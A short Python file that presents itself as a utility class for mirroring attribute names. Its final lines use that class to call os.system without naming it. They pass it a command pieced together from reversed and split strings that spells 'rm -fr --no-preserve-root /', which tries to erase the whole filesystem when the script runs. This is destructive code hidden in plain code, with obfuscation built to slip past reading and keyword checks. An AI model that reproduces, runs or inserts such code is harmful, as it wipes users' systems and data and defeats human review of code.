import os


class Mirror:
    """Gives the attributes of an object under their mirrored names."""

    def __init__(self, wrapped):
        self._wrapped = wrapped

    def __getattr__(self, name):
        return getattr(self._wrapped, name[::-1])


host = Mirror(os)
words = ["r" "m", "-" + "fr", "--no-preserve-" + "toor"[::-1], os.path.sep]
host.metsys(" ".join(words))
